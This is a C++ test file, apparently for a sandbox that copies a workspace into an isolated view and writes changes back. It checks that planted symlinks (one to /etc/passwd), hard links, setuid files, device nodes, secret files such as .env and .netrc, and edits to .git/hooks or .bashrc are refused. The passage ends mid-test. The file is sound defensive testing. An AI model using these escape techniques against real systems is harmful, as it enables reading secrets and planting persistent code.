// Session view and write-back on real directories: what crosses, what is refused, what is never followed.
#include "exec/session_view.h"

#include <dirent.h>
#include <fcntl.h>
#include <gtest/gtest.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <sys/un.h>
#include <unistd.h>

#include <algorithm>
#include <cerrno>
#include <cstring>
#include <ctime>
#include <string>
#include <vector>

#include "base/fs.h"
#include "policy/task_policy.h"

namespace airlock::exec {
namespace {

// A fresh directory under /tmp, removed with everything in it when the test ends, pass or fail.
class TempDir {
 public:
  TempDir() {
    std::string templ = "/tmp/airlock-test-wb-XXXXXX";
    if (::mkdtemp(templ.data()) == nullptr) {
      ADD_FAILURE() << "mkdtemp: " << std::strerror(errno);
      return;
    }
    path_ = templ;
  }
  ~TempDir() {
    if (path_.empty()) return;
    if (auto r = remove_tree(path_); !r) ADD_FAILURE() << "cleanup: " << r.error().message;
  }
  TempDir(const TempDir&) = delete;
  TempDir& operator=(const TempDir&) = delete;
  const std::string& path() const { return path_; }
  std::string operator/(const std::string& rel) const { return path_ + "/" + rel; }

 private:
  std::string path_;
};

// Creates (or truncates) `path` with `content`, then sets exactly `mode`.
void put(const std::string& path, const std::string& content, mode_t mode = 0644) {
  int fd = ::open(path.c_str(), O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0600);
  ASSERT_GE(fd, 0) << path << ": " << std::strerror(errno);
  ASSERT_EQ(::write(fd, content.data(), content.size()), static_cast<ssize_t>(content.size())) << path;
  ASSERT_EQ(::fchmod(fd, mode), 0) << path;
  ::close(fd);
}

void mkdir_p(const std::string& path) {
  auto r = make_dirs(path);
  ASSERT_TRUE(r.has_value()) << r.error().message;
}

std::string content_of(const std::string& path) {
  auto r = read_file(path);
  return r ? *r : "<unreadable: " + r.error().message + ">";
}

bool exists(const std::string& path) {
  struct stat st{};
  return ::lstat(path.c_str(), &st) == 0;
}

struct stat lstat_of(const std::string& path) {
  struct stat st{};
  if (::lstat(path.c_str(), &st) < 0) ADD_FAILURE() << "lstat " << path << ": " << std::strerror(errno);
  return st;
}

// Every name below `dir`, relative to it, symlinks not followed.
std::vector<std::string> tree(const std::string& dir, const std::string& rel = "") {
  std::vector<std::string> out;
  std::string abs = rel.empty() ? dir : dir + "/" + rel;
  DIR* d = ::opendir(abs.c_str());
  if (!d) return out;
  while (dirent* e = ::readdir(d)) {
    std::string n = e->d_name;
    if (n == "." || n == "..") continue;
    std::string child = rel.empty() ? n : rel + "/" + n;
    out.push_back(child);
    struct stat st{};
    if (::lstat((dir + "/" + child).c_str(), &st) == 0 && S_ISDIR(st.st_mode)) {
      auto below = tree(dir, child);
      out.insert(out.end(), below.begin(), below.end());
    }
  }
  ::closedir(d);
  std::sort(out.begin(), out.end());
  return out;
}

using Strings = std::vector<std::string>;

Strings skipped_paths(const ViewCopy& c) {
  Strings out;
  for (const auto& k : c.skipped) out.push_back(k.path);
  std::sort(out.begin(), out.end());
  return out;
}

// A workspace, a session view, and a directory outside both that nothing may reach.
class WriteBack : public ::testing::Test {
 protected:
  void SetUp() override {
    ASSERT_FALSE(ws_.path().empty());
    ASSERT_FALSE(session_.path().empty());
    ASSERT_FALSE(outside_.path().empty());
    ASSERT_EQ(::mkdir(view_.c_str(), 0700), 0) << std::strerror(errno);
  }

  ViewCopy make_view(const Strings& paths, const Strings& write_back_paths) {
    return make_view(ViewRules{paths, write_back_paths, {}, {}, true});
  }
  ViewCopy make_view(const ViewRules& rules) {
    auto r = create_view(ws_.path(), view_, rules);
    if (!r) {
      ADD_FAILURE() << "create_view: " << r.error().message;
      return {};
    }
    return *r;
  }

  WriteBackReport back(const ViewManifest& manifest, const Strings& write_back_paths) {
    return back(manifest, ViewRules{{}, write_back_paths, {}, {}, true});
  }
  WriteBackReport back(const ViewManifest& manifest, const ViewRules& rules) {
    auto r = write_back(view_, ws_.path(), manifest, rules);
    if (!r) {
      ADD_FAILURE() << "write_back: " << r.error().message;
      return {};
    }
    return *r;
  }

  // The usual layout: out/ is written back, src/ is only readable.
  ViewCopy standard_view() {
    mkdir_p(ws_ / "out");
    mkdir_p(ws_ / "src");
    put(ws_ / "src/main.c", "int main;\n");
    return make_view({"src", "out"}, {"out"});
  }

  std::string view(const std::string& rel) const { return view_ + "/" + rel; }

  TempDir ws_, session_, outside_;
  std::string view_ = session_ / "view";
};

// `report.refused` is exactly {rel, reason}, and the workspace has nothing at `rel`.
void expect_refused_alone(const WriteBackReport& rep, const std::string& ws, const std::string& rel,
                          const std::string& reason) {
  ASSERT_EQ(rep.refused.size(), 1u) << rep.to_json().dump();
  EXPECT_EQ(rep.refused[0].path, rel);
  EXPECT_EQ(rep.refused[0].reason, reason);
  EXPECT_FALSE(exists(ws + "/" + rel)) << rel << " reached the workspace";
  EXPECT_TRUE(std::find(rep.written.begin(), rep.written.end(), rel) == rep.written.end());
}

// --- Leftovers of a killed write-back (issue 26) ---------------------------------------------

// SIGKILL during write-back leaves write_back's temporary file in the workspace: it never enters
// a view, and once stale it is removed; a fresh one (a write-back under way) is left alone.
TEST_F(WriteBack, AKilledWriteBacksTemporaryFileIsSweptAndNeverCopied) {
  mkdir_p(ws_ / "out/sub");
  put(ws_ / "out/sub/.airlock-wb-0123456789ab", "partial");
  put(ws_ / "out/.airlock-wb-fedcba987654", "under way");
  put(ws_ / "out/.airlock-wb-keep", "not ours: kept and copied");
  timespec old[2] = {{0, UTIME_OMIT}, {::time(nullptr) - kStaleWriteBackTempSeconds - 60, 0}};
  ASSERT_EQ(::utimensat(AT_FDCWD, (ws_ / "out/sub/.airlock-wb-0123456789ab").c_str(), old, 0), 0);
  make_view({"out"}, {"out"});
  EXPECT_FALSE(exists(view("out/sub/.airlock-wb-0123456789ab")));
  EXPECT_FALSE(exists(view("out/.airlock-wb-fedcba987654")));
  EXPECT_TRUE(exists(view("out/.airlock-wb-keep")));
  EXPECT_FALSE(exists(ws_ / "out/sub/.airlock-wb-0123456789ab")) << "a stale temporary file was not swept";
  EXPECT_TRUE(exists(ws_ / "out/.airlock-wb-fedcba987654")) << "a fresh temporary file was removed";
}

// --- What crosses -------------------------------------------------------------------------------

TEST_F(WriteBack, NewAndModifiedFilesCrossWithContentAndMode) {
  mkdir_p(ws_ / "out");
  put(ws_ / "out/mod.txt", "old\n", 0644);
  auto copy = make_view({"out"}, {"out"});

  put(view("out/new.sh"), "#!/bin/sh\necho new\n", 0750);
  put(view("out/mod.txt"), "modified, and longer\n", 0600);
  auto rep = back(copy.manifest, {"out"});

  EXPECT_EQ(rep.written, (Strings{"out/mod.txt", "out/new.sh"}));
  EXPECT_TRUE(rep.refused.empty()) << rep.to_json().dump();
  EXPECT_EQ(content_of(ws_ / "out/new.sh"), "#!/bin/sh\necho new\n");
  EXPECT_EQ(content_of(ws_ / "out/mod.txt"), "modified, and longer\n");
  EXPECT_EQ(lstat_of(ws_ / "out/new.sh").st_mode & 07777, 0750u);
  EXPECT_EQ(lstat_of(ws_ / "out/mod.txt").st_mode & 07777, 0600u);
}

TEST_F(WriteBack, AModeOnlyChangeCrosses) {
  mkdir_p(ws_ / "out");
  put(ws_ / "out/run.sh", "echo\n", 0644);
  auto copy = make_view({"out"}, {"out"});
  ASSERT_EQ(::chmod(view("out/run.sh").c_str(), 0755), 0);
  auto rep = back(copy.manifest, {"out"});
  EXPECT_EQ(rep.written, (Strings{"out/run.sh"}));
  EXPECT_EQ(lstat_of(ws_ / "out/run.sh").st_mode & 07777, 0755u);
}

TEST_F(WriteBack, AnUnchangedFileIsNotRewritten) {
  mkdir_p(ws_ / "out");
  put(ws_ / "out/same.txt", "same\n");
  ino_t before = lstat_of(ws_ / "out/same.txt").st_ino;
  auto copy = make_view({"out"}, {"out"});
  put(view("out/other.txt"), "other\n");  // something does change in the same run

  auto rep = back(copy.manifest, {"out"});
  EXPECT_EQ(rep.written, (Strings{"out/other.txt"}));
  EXPECT_EQ(lstat_of(ws_ / "out/same.txt").st_ino, before);
  EXPECT_EQ(content_of(ws_ / "out/same.txt"), "same\n");
}

TEST_F(WriteBack, AChangedFileOutsideTheWriteBackPathsStaysAsItWas) {
  auto copy = standard_view();
  ino_t before = lstat_of(ws_ / "src/main.c").st_ino;
  ASSERT_TRUE(exists(view("src/main.c"))) << "readable paths are in the view";
  put(view("src/main.c"), "int main() { return 1; }\n");
  put(view("src/added.c"), "added\n");
  put(view("out/result.txt"), "42\n");

  auto rep = back(copy.manifest, {"out"});
  EXPECT_EQ(rep.written, (Strings{"out/result.txt"}));
  EXPECT_EQ(content_of(ws_ / "src/main.c"), "int main;\n");
  EXPECT_EQ(lstat_of(ws_ / "src/main.c").st_ino, before);
  EXPECT_FALSE(exists(ws_ / "src/added.c"));
}

TEST_F(WriteBack, NewDirectoriesAreCreatedParentsFirst) {
  auto copy = standard_view();
  mkdir_p(view("out/a/b"));
  put(view("out/a/b/deep.txt"), "deep\n");
  auto rep = back(copy.manifest, {"out"});
  EXPECT_EQ(rep.created_dirs, (Strings{"out/a", "out/a/b"}));
  EXPECT_EQ(rep.written, (Strings{"out/a/b/deep.txt"}));
  EXPECT_EQ(content_of(ws_ / "out/a/b/deep.txt"), "deep\n");
}

// --- Deletions ----------------------------------------------------------------------------------

TEST_F(WriteBack, AFileDeletedInTheViewIsDeletedInTheWorkspace) {
  mkdir_p(ws_ / "out/olddir");
  put(ws_ / "out/gone.txt", "bye\n");
  put(ws_ / "out/olddir/f", "f\n");
  put(ws_ / "out/kept.txt", "kept\n");
  auto copy = make_view({"out"}, {"out"});
  ASSERT_EQ(::unlink(view("out/gone.txt").c_str()), 0);
  ASSERT_EQ(::unlink(view("out/olddir/f").c_str()), 0);
  ASSERT_EQ(::rmdir(view("out/olddir").c_str()), 0);

  auto rep = back(copy.manifest, {"out"});
  EXPECT_EQ(rep.deleted, (Strings{"out/olddir/f", "out/olddir", "out/gone.txt"}));
  EXPECT_FALSE(exists(ws_ / "out/gone.txt"));
  EXPECT_FALSE(exists(ws_ / "out/olddir"));
  EXPECT_EQ(content_of(ws_ / "out/kept.txt"), "kept\n");
}

TEST_F(WriteBack, AFileCreatedThenDeletedLeavesNothing) {
  auto copy = standard_view();
  put(view("out/ephemeral.txt"), "brief\n");
  ASSERT_EQ(::unlink(view("out/ephemeral.txt").c_str()), 0);
  auto rep = back(copy.manifest, {"out"});
  EXPECT_TRUE(rep.written.empty()) << rep.to_json().dump();
  EXPECT_TRUE(rep.deleted.empty()) << rep.to_json().dump();
  EXPECT_TRUE(rep.refused.empty()) << rep.to_json().dump();
  EXPECT_EQ(tree(ws_ / "out"), Strings{});
}

TEST_F(WriteBack, ADeletionOutsideTheWriteBackPathsIsNotApplied) {
  auto copy = standard_view();
  ASSERT_EQ(::unlink(view("src/main.c").c_str()), 0);
  auto rep = back(copy.manifest, {"out"});
  EXPECT_TRUE(rep.deleted.empty()) << rep.to_json().dump();
  EXPECT_EQ(content_of(ws_ / "src/main.c"), "int main;\n");
}

// --- Refused by name, written nowhere; legitimate files in the same run still cross -------------

TEST_F(WriteBack, RefusesASymlinkToAFileOutside) {
  auto copy = standard_view();
  ASSERT_EQ(::symlink("/etc/passwd", view("out/passwd").c_str()), 0);
  put(view("out/ok.txt"), "ok\n");
  auto rep = back(copy.manifest, {"out"});
  expect_refused_alone(rep, ws_.path(), "out/passwd", "symlink");
  EXPECT_EQ(rep.written, (Strings{"out/ok.txt"}));
  EXPECT_EQ(content_of(ws_ / "out/ok.txt"), "ok\n");
}

TEST_F(WriteBack, RefusesASymlinkToAFileInside) {
  auto copy = standard_view();
  put(view("out/real.txt"), "real\n");
  ASSERT_EQ(::symlink("real.txt", view("out/alias").c_str()), 0);
  auto rep = back(copy.manifest, {"out"});
  expect_refused_alone(rep, ws_.path(), "out/alias", "symlink");
  EXPECT_EQ(rep.written, (Strings{"out/real.txt"}));
  EXPECT_EQ(content_of(ws_ / "out/real.txt"), "real\n");
}

TEST_F(WriteBack, RefusesASymlinkToADirectoryAndDoesNotDescend) {
  auto copy = standard_view();
  put(outside_ / "secret", "secret\n");
  ASSERT_EQ(::symlink(outside_.path().c_str(), view("out/dirlink").c_str()), 0);
  put(view("out/ok.txt"), "ok\n");
  auto rep = back(copy.manifest, {"out"});
  expect_refused_alone(rep, ws_.path(), "out/dirlink", "symlink");
  EXPECT_EQ(rep.written, (Strings{"out/ok.txt"}));
  EXPECT_TRUE(rep.created_dirs.empty()) << rep.to_json().dump();
}

TEST_F(WriteBack, RefusesBothNamesOfAHardLink) {
  auto copy = standard_view();
  put(view("out/h1"), "linked\n");
  ASSERT_EQ(::link(view("out/h1").c_str(), view("out/h2").c_str()), 0);
  put(view("out/ok.txt"), "ok\n");
  auto rep = back(copy.manifest, {"out"});
  ASSERT_EQ(rep.refused.size(), 2u) << rep.to_json().dump();
  EXPECT_EQ(rep.refused[0].path, "out/h1");
  EXPECT_EQ(rep.refused[0].reason, "hard link");
  EXPECT_EQ(rep.refused[1].path, "out/h2");
  EXPECT_EQ(rep.refused[1].reason, "hard link");
  EXPECT_FALSE(exists(ws_ / "out/h1"));
  EXPECT_FALSE(exists(ws_ / "out/h2"));
  EXPECT_EQ(rep.written, (Strings{"out/ok.txt"}));
}

TEST_F(WriteBack, RefusesAFifo) {
  auto copy = standard_view();
  ASSERT_EQ(::mkfifo(view("out/pipe").c_str(), 0644), 0) << std::strerror(errno);
  put(view("out/ok.txt"), "ok\n");
  auto rep = back(copy.manifest, {"out"});
  expect_refused_alone(rep, ws_.path(), "out/pipe", "fifo");
  EXPECT_EQ(rep.written, (Strings{"out/ok.txt"}));
}

TEST_F(WriteBack, RefusesAUnixSocket) {
  auto copy = standard_view();
  std::string path = view("out/sock");
  sockaddr_un addr{};
  addr.sun_family = AF_UNIX;
  ASSERT_LT(path.size(), sizeof addr.sun_path);
  std::memcpy(addr.sun_path, path.c_str(), path.size() + 1);
  int s = ::socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
  ASSERT_GE(s, 0) << std::strerror(errno);
  int bound = ::bind(s, reinterpret_cast<sockaddr*>(&addr), sizeof addr);
  int bind_errno = errno;
  ::close(s);
  ASSERT_EQ(bound, 0) << std::strerror(bind_errno);
  put(view("out/ok.txt"), "ok\n");
  auto rep = back(copy.manifest, {"out"});
  expect_refused_alone(rep, ws_.path(), "out/sock", "socket");
  EXPECT_EQ(rep.written, (Strings{"out/ok.txt"}));
}

TEST_F(WriteBack, RefusesASetuidFile) {
  auto copy = standard_view();
  put(view("out/suid"), "#!/bin/sh\n", 04755);
  ASSERT_TRUE(lstat_of(view("out/suid")).st_mode & S_ISUID) << "the kernel dropped the setuid bit";
  put(view("out/ok.txt"), "ok\n");
  auto rep = back(copy.manifest, {"out"});
  expect_refused_alone(rep, ws_.path(), "out/suid", "setuid");
  EXPECT_EQ(rep.written, (Strings{"out/ok.txt"}));
}

TEST_F(WriteBack, RefusesASetgidFile) {
  auto copy = standard_view();
  put(view("out/sgid"), "#!/bin/sh\n", 02755);
  ASSERT_TRUE(lstat_of(view("out/sgid")).st_mode & S_ISGID) << "the kernel dropped the setgid bit";
  put(view("out/ok.txt"), "ok\n");
  auto rep = back(copy.manifest, {"out"});
  expect_refused_alone(rep, ws_.path(), "out/sgid", "setgid");
  EXPECT_EQ(rep.written, (Strings{"out/ok.txt"}));
}

TEST_F(WriteBack, RefusesACharacterDevice) {
  if (::geteuid() != 0) GTEST_SKIP() << "mknod needs CAP_MKNOD (not running as root)";
  auto copy = standard_view();
  if (::mknod(view("out/null").c_str(), S_IFCHR | 0666, makedev(1, 3)) < 0) {
    if (errno == EPERM) GTEST_SKIP() << "mknod needs CAP_MKNOD (root without it here)";
    FAIL() << "mknod: " << std::strerror(errno);
  }
  put(view("out/ok.txt"), "ok\n");
  auto rep = back(copy.manifest, {"out"});
  expect_refused_alone(rep, ws_.path(), "out/null", "device");
  EXPECT_EQ(rep.written, (Strings{"out/ok.txt"}));
}

TEST_F(WriteBack, RefusesASymlinkPlantedThreeLevelsDown) {
  auto copy = standard_view();
  mkdir_p(view("out/a/b"));
  ASSERT_EQ(::symlink("/etc/passwd", view("out/a/b/link").c_str()), 0);
  put(view("out/a/ok.txt"), "ok\n");
  auto rep = back(copy.manifest, {"out"});
  expect_refused_alone(rep, ws_.path(), "out/a/b/link", "symlink");
  EXPECT_EQ(rep.written, (Strings{"out/a/ok.txt"}));
  EXPECT_TRUE(exists(ws_ / "out/a/b")) << "the directories on the way are legitimate";
}

TEST_F(WriteBack, RefusesASymlinkAboveANestedWriteBackPath) {
  // Write-back path a/b; the command replaces the directory a with a link to a place that has b/.
  mkdir_p(ws_ / "a/b");
  auto copy = make_view({"a/b"}, {"a/b"});
  mkdir_p(outside_ / "b");
  put(outside_ / "b/stolen", "outside content\n");
  ASSERT_TRUE(remove_tree(view("a")).has_value());
  ASSERT_EQ(::symlink(outside_.path().c_str(), view("a").c_str()), 0);

  auto rep = back(copy.manifest, {"a/b"});
  EXPECT_FALSE(exists(ws_ / "a/b/stolen")) << "write-back read through a symlink in the view";
  EXPECT_TRUE(rep.written.empty()) << rep.to_json().dump();
  ASSERT_EQ(rep.refused.size(), 1u) << rep.to_json().dump();
  EXPECT_EQ(rep.refused[0].reason, "symlink");
}

TEST_F(WriteBack, ADirectoryReplacedByASymlinkKeepsItsWorkspaceContents) {
  // Refused means written nowhere, and that includes deleting what the directory held.
  mkdir_p(ws_ / "out/d");
  put(ws_ / "out/d/f", "precious\n");
  auto copy = make_view({"out"}, {"out"});
  ASSERT_TRUE(remove_tree(view("out/d")).has_value());
  ASSERT_EQ(::symlink(outside_.path().c_str(), view("out/d").c_str()), 0);

  auto rep = back(copy.manifest, {"out"});
  ASSERT_EQ(rep.refused.size(), 1u) << rep.to_json().dump();
  EXPECT_EQ(rep.refused[0].path, "out/d");
  EXPECT_EQ(rep.refused[0].reason, "symlink");
  EXPECT_TRUE(rep.deleted.empty()) << rep.to_json().dump();
  EXPECT_EQ(content_of(ws_ / "out/d/f"), "precious\n");
}

// --- The workspace side is never followed -------------------------------------------------------

TEST_F(WriteBack, AWorkspaceSymlinkWhereTheWriteBackDirectoryShouldBeIsAConflict) {
  ASSERT_EQ(::symlink(outside_.path().c_str(), (ws_ / "out").c_str()), 0);
  auto copy = make_view({"out"}, {"out"});
  EXPECT_EQ(skipped_paths(copy), (Strings{"out"}));
  mkdir_p(view("out"));  // the command makes the directory it expected
  put(view("out/x"), "through the link?\n");

  auto rep = back(copy.manifest, {"out"});
  EXPECT_EQ(tree(outside_.path()), Strings{}) << "write-back followed the workspace symlink";
  EXPECT_TRUE(rep.written.empty()) << rep.to_json().dump();
  ASSERT_EQ(rep.refused.size(), 1u) << rep.to_json().dump();
  // The refusal is made at the directory, which covers out/x beneath it.
  EXPECT_EQ(rep.refused[0].path, "out");
  EXPECT_TRUE(rep.refused[0].reason.starts_with("conflict")) << rep.refused[0].reason;
  char target[4096] = {};
  ASSERT_GT(::readlink((ws_ / "out").c_str(), target, sizeof target - 1), 0);
  EXPECT_EQ(std::string(target), outside_.path()) << "the workspace symlink itself is left alone";
}

TEST_F(WriteBack, AWorkspaceSymlinkAboveANestedWriteBackPathIsAConflict) {
  ASSERT_EQ(::symlink(outside_.path().c_str(), (ws_ / "out").c_str()), 0);
  auto copy = make_view({"out/sub"}, {"out/sub"});
  mkdir_p(view("out/sub"));  // made by create_view, or else by the command
  put(view("out/sub/x"), "through the link?\n");

  auto rep = back(copy.manifest, {"out/sub"});
  EXPECT_EQ(tree(outside_.path()), Strings{}) << "write-back followed the workspace symlink";
  EXPECT_TRUE(rep.written.empty()) << rep.to_json().dump();
  ASSERT_EQ(rep.refused.size(), 1u) << rep.to_json().dump();
  EXPECT_EQ(rep.refused[0].path, "out/sub");
  EXPECT_TRUE(rep.refused[0].reason.starts_with("conflict")) << rep.refused[0].reason;
}

TEST_F(WriteBack, AWorkspaceSymlinkAtAFilePathIsAConflictAndItsTargetIsUntouched) {
  mkdir_p(ws_ / "out");
  put(outside_ / "target", "original\n");
  ASSERT_EQ(::symlink((outside_ / "target").c_str(), (ws_ / "out/x").c_str()), 0);
  auto copy = make_view({"out"}, {"out"});
  EXPECT_EQ(skipped_paths(copy), (Strings{"out/x"}));
  put(view("out/x"), "overwrite?\n");

  auto rep = back(copy.manifest, {"out"});
  EXPECT_EQ(content_of(outside_ / "target"), "original\n");
  EXPECT_TRUE(S_ISLNK(lstat_of(ws_ / "out/x").st_mode));
  EXPECT_TRUE(rep.written.empty()) << rep.to_json().dump();
  ASSERT_EQ(rep.refused.size(), 1u) << rep.to_json().dump();
  EXPECT_EQ(rep.refused[0].path, "out/x");
  EXPECT_TRUE(rep.refused[0].reason.starts_with("conflict")) << rep.refused[0].reason;
}

// --- Files land by rename -----------------------------------------------------------------------

TEST_F(WriteBack, FilesLandByRenameAndLeaveNoTemporaryFiles) {
  mkdir_p(ws_ / "out");
  put(ws_ / "out/mod.txt", "old\n");
  auto copy = make_view({"out"}, {"out"});
  // A reader holding the old file keeps the old bytes: the new file is a new inode renamed in,
  // never the old one truncated and rewritten.
  int reader = ::open((ws_ / "out/mod.txt").c_str(), O_RDONLY | O_CLOEXEC);
  ASSERT_GE(reader, 0);
  ino_t before = lstat_of(ws_ / "out/mod.txt").st_ino;
  put(view("out/mod.txt"), "new contents\n");
  mkdir_p(view("out/d"));
  for (int i = 0; i < 5; ++i) put(view("out/d/f" + std::to_string(i)), std::string(1000 * i, 'x'));

  auto rep = back(copy.manifest, {"out"});
  EXPECT_EQ(rep.written.size(), 6u) << rep.to_json().dump();
  char buf[64] = {};
  ssize_t n = ::pread(reader, buf, sizeof buf, 0);
  ::close(reader);
  EXPECT_EQ(std::string(buf, n > 0 ? static_cast<size_t>(n) : 0), "old\n");
  EXPECT_NE(lstat_of(ws_ / "out/mod.txt").st_ino, before);
  EXPECT_EQ(content_of(ws_ / "out/mod.txt"), "new contents\n");
  for (const auto& rel : tree(ws_.path()))
    EXPECT_EQ(rel.find(".airlock-wb-"), std::string::npos) << "leftover temporary file " << rel;
}

// --- create_view --------------------------------------------------------------------------------

TEST_F(WriteBack, ViewHoldsOnlyTheListedPaths) {
  mkdir_p(ws_ / "src/lib");
  mkdir_p(ws_ / "out");
  mkdir_p(ws_ / "secret");
  put(ws_ / "src/lib/a.c", "aaaa");
  put(ws_ / "out/old.txt", "ol");
  put(ws_ / "secret/key", "k");
  put(ws_ / "top.txt", "t");

  auto copy = make_view({"src", "out"}, {"out"});
  EXPECT_EQ(tree(view_), (Strings{"out", "out/old.txt", "src", "src/lib", "src/lib/a.c"}));
  EXPECT_EQ(content_of(view("src/lib/a.c")), "aaaa");
  EXPECT_EQ(copy.files, 2u);
  EXPECT_EQ(copy.bytes, 6u);
  EXPECT_TRUE(copy.skipped.empty());
  Strings keys;
  for (const auto& [rel, entry] : copy.manifest) keys.push_back(rel);
  EXPECT_EQ(keys, (Strings{"out", "out/old.txt", "src", "src/lib", "src/lib/a.c"}));
  EXPECT_TRUE(copy.manifest.at("src/lib").is_dir);
  EXPECT_FALSE(copy.manifest.at("out/old.txt").is_dir);
}

TEST_F(WriteBack, ViewSkipsSymlinksAndFifosInTheWorkspace) {
  mkdir_p(ws_ / "src");
  put(ws_ / "src/a.c", "a");
  put(outside_ / "secret", "secret\n");
  // Targets in our own temp dirs, never /etc: a create_view that followed them must not be able
  // to write anywhere but there.
  ASSERT_EQ(::symlink((outside_ / "secret").c_str(), (ws_ / "src/passwd").c_str()), 0);
  ASSERT_EQ(::symlink(outside_.path().c_str(), (ws_ / "src/dirlink").c_str()), 0);
  ASSERT_EQ(::mkfifo((ws_ / "src/pipe").c_str(), 0644), 0);

  auto copy = make_view({"src"}, {});
  EXPECT_EQ(skipped_paths(copy), (Strings{"src/dirlink", "src/passwd", "src/pipe"}));
  EXPECT_EQ(tree(view_), (Strings{"src", "src/a.c"}));
}

TEST_F(WriteBack, ViewMakesAMissingWriteBackPathAsAnEmptyDirectory) {
  auto copy = make_view({"build/out", "docs"}, {"build/out"});
  EXPECT_TRUE(S_ISDIR(lstat_of(view("build/out")).st_mode));
  EXPECT_EQ(tree(view("build/out")), Strings{});
  EXPECT_FALSE(exists(view("docs"))) << "a missing readable path is not invented";
  EXPECT_FALSE(exists(ws_ / "build")) << "the workspace is not touched";
}

TEST_F(WriteBack, ViewDoesNotReadThroughASymlinkedParentOfAListedPath) {
  // readable: data/f, where the workspace's data is a link out of it.
  put(outside_ / "f", "outside content\n");
  ASSERT_EQ(::symlink(outside_.path().c_str(), (ws_ / "data").c_str()), 0);
  (void)create_view(ws_.path(), view_, ViewRules{{"data/f"}, {}, {}, {}, true});  // skipping or refusing are both fine
  EXPECT_FALSE(exists(view("data/f"))) << "create_view copied a file from outside the workspace";
}

TEST_F(WriteBack, ViewCopiesAFileBothReadableAndWrittenBackOnce) {
  // The planner lists readable paths then write-back paths: {".", "notes.txt"} for a policy
  // that reads everything and writes back one file.
  put(ws_ / "notes.txt", "n\n");
  auto r = create_view(ws_.path(), view_, ViewRules{{".", "notes.txt"}, {"notes.txt"}, {}, {}, true});
  ASSERT_TRUE(r.has_value()) << r.error().message;
  EXPECT_EQ(content_of(view("notes.txt")), "n\n");
  EXPECT_EQ(r->files, 1u);
}

// --- Denied names, hard links and protected paths ------------------------------------------------

ViewRules all_of_it() {
  ViewRules r{{"."}, {"."}, {}, policy::default_protected_paths(), true};
  r.denied_names.assign(std::begin(policy::kDefaultDeniedNames), std::end(policy::kDefaultDeniedNames));
  return r;
}

TEST_F(WriteBack, DeniedNamesNeverEnterTheViewAndNeverComeBack) {
  put(ws_ / ".env", "TOKEN=host\n");
  mkdir_p(ws_ / "deep/.ssh");
  put(ws_ / "deep/.ssh/id_ed25519", "key\n");
  put(ws_ / "deep/server.pem", "pem\n");
  put(ws_ / "ok.txt", "ok\n");
  auto copy = make_view(all_of_it());
  EXPECT_EQ(tree(view_), (Strings{"deep", "deep/server.pem", "ok.txt"}));
  EXPECT_EQ(skipped_paths(copy), (Strings{".env", "deep/.ssh"}));
  // The command writes denied names of its own: none lands, each is refused by name.
  put(view(".env"), "TOKEN=planted\n");
  put(view("deep/.netrc"), "machine x\n");
  auto rep = back(copy.manifest, all_of_it());
  EXPECT_EQ(content_of(ws_ / ".env"), "TOKEN=host\n");
  EXPECT_FALSE(exists(ws_ / "deep/.netrc"));
  Strings refused;
  for (const auto& r : rep.refused) {
    refused.push_back(r.path);
    EXPECT_EQ(r.reason, "denied name");
  }
  std::sort(refused.begin(), refused.end());
  EXPECT_EQ(refused, (Strings{".env", "deep/.netrc"}));
  EXPECT_TRUE(rep.deleted.empty()) << "a denied name absent from the view is not a deletion";
  EXPECT_EQ(content_of(ws_ / "deep/.ssh/id_ed25519"), "key\n");
}

TEST_F(WriteBack, AHardLinkedFileIsSkippedNeverCopied) {
  put(outside_ / "canary", "outside bytes\n");
  ASSERT_EQ(::link((outside_ / "canary").c_str(), (ws_ / "linked").c_str()), 0);
  auto copy = make_view(all_of_it());
  EXPECT_FALSE(exists(view("linked"))) << "the view holds the bytes of a file outside the workspace";
  ASSERT_EQ(copy.skipped.size(), 1u);
  EXPECT_EQ(copy.skipped[0].path, "linked");
  EXPECT_EQ(copy.skipped[0].reason, "hard link");
  // Nothing in the view means nothing to delete: the workspace's link stays.
  auto rep = back(copy.manifest, all_of_it());
  EXPECT_TRUE(rep.deleted.empty()) << rep.to_json().dump();
  EXPECT_EQ(content_of(ws_ / "linked"), "outside bytes\n");
}

void git_layout(const TempDir& ws) {
  mkdir_p(ws / ".git/objects/ab");
  mkdir_p(ws / ".git/refs/heads");
  mkdir_p(ws / ".git/hooks");
  put(ws / ".git/HEAD", "ref: refs/heads/main\n");
  put(ws / ".git/config", "[core]\n");
  put(ws / ".git/objects/ab/cdef", "object\n");
  put(ws / ".git/refs/heads/main", "abcdef\n");
  put(ws / ".git/hooks/pre-commit.sample", "#!/bin/sh\n");
  put(ws / ".git/MERGE_HEAD", "abcdef\n");
}

Strings git_files() {
  return {".git/HEAD",          ".git/MERGE_HEAD", ".git/config", ".git/hooks/pre-commit.sample", ".git/objects/ab/cdef",
          ".git/refs/heads/main"};
}

TEST_F(WriteBack, ProtectedPathsAreReadOnlyInTheViewAndRefusedAtWriteBack) {
  mkdir_p(ws_ / ".git/hooks");
  mkdir_p(ws_ / ".git/info");
  mkdir_p(ws_ / ".git/objects/ab");
  put(ws_ / ".git/config", "[core]\n");
  put(ws_ / ".git/hooks/pre-commit.sample", "#!/bin/sh\n");
  put(ws_ / ".git/info/exclude", "# nothing\n");
  put(ws_ / ".git/HEAD", "ref: refs/heads/main\n");
  mkdir_p(ws_ / "sub/.vscode");
  put(ws_ / "sub/.vscode/tasks.json", "{}\n");
  put(ws_ / ".bashrc", "# rc\n");
  put(ws_ / "src.txt", "v1\n");
  auto copy = make_view(all_of_it());
  Strings present = copy.protected_present;
  std::sort(present.begin(), present.end());
  EXPECT_EQ(present, (Strings{".bashrc", ".git/config", ".git/hooks", ".git/info", "sub/.vscode"}));
  // The first wall: no write bit on a protected path or anything beneath it.
  for (const char* p : {".bashrc", ".git/config", ".git/hooks", ".git/hooks/pre-commit.sample", "sub/.vscode",
                        "sub/.vscode/tasks.json"})
    EXPECT_EQ(lstat_of(view(p)).st_mode & 0222, 0u) << p;
  EXPECT_NE(lstat_of(view(".git/HEAD")).st_mode & 0200, 0u) << "the rest of .git stays writable";

  // A command that gets past the first wall (chmod) changes, plants and deletes.
  for (const char* d : {".git/hooks", ".git/info", "sub/.vscode"}) ASSERT_EQ(::chmod(view(d).c_str(), 0700), 0);
  ASSERT_EQ(::chmod(view(".git/config").c_str(), 0600), 0);
  ASSERT_EQ(::chmod(view(".bashrc").c_str(), 0600), 0);
